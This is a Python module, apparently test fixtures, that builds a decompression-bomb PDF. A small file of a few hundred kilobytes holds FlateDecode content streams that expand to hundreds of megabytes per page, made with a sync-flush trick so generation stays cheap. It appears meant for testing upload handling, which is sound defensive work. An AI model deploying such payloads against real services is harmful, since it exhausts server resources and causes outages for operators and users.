"""Hostile upload builders, generated in code so every byte of the attack is visible."""

from __future__ import annotations

import functools
import zlib

_HEAD = b"BT /F1 12 Tf 72 720 Td (Decompression bomb) Tj ET\n"
_BLOCK = b" " * (1 << 20)


@functools.cache
def _bomb_stream(megabytes: int) -> bytes:
    """A valid zlib stream of ``_HEAD`` plus ``megabytes`` MB of spaces, built without
    compressing them all: once the window is full of spaces, each sync-flushed 1 MB
    chunk compresses to the same bytes, so one chunk is repeated (and the checksum is
    computed over the expanded data, which is cheap)."""
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [raw.compress(_HEAD) + raw.flush(zlib.Z_SYNC_FLUSH)]
    first = raw.compress(_BLOCK) + raw.flush(zlib.Z_SYNC_FLUSH)
    steady = raw.compress(_BLOCK) + raw.flush(zlib.Z_SYNC_FLUSH)
    assert raw.compress(_BLOCK) + raw.flush(zlib.Z_SYNC_FLUSH) == steady
    out.append(first)
    out.extend([steady] * (megabytes - 1))
    out.append(raw.flush(zlib.Z_FINISH))
    checksum = zlib.adler32(_HEAD)
    for _ in range(megabytes):
        checksum = zlib.adler32(_BLOCK, checksum)
    return b"\x78\xda" + b"".join(out) + checksum.to_bytes(4, "big")


def decompression_bomb_pdf(*, pages: int = 1, megabytes_per_page: int = 300) -> bytes:
    """A PDF of a few hundred KB whose page content streams FlateDecode-expand to
    ``megabytes_per_page`` MB each: a visible text operator, then endless spaces."""
    stream = _bomb_stream(megabytes_per_page)
    # 1 catalog, 2 page tree, 3 font, then (page, contents) pairs from 4 on.
    kids = b" ".join(b"%d 0 R" % (4 + 2 * index) for index in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    for index in range(pages):
        objects.append(
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
            b"/Resources << /Font << /F1 3 0 R >> >> /Contents %d 0 R >>" % (5 + 2 * index)
        )
        objects.append(
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
            + stream
            + b"\nendstream"
        )
    out = bytearray(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)
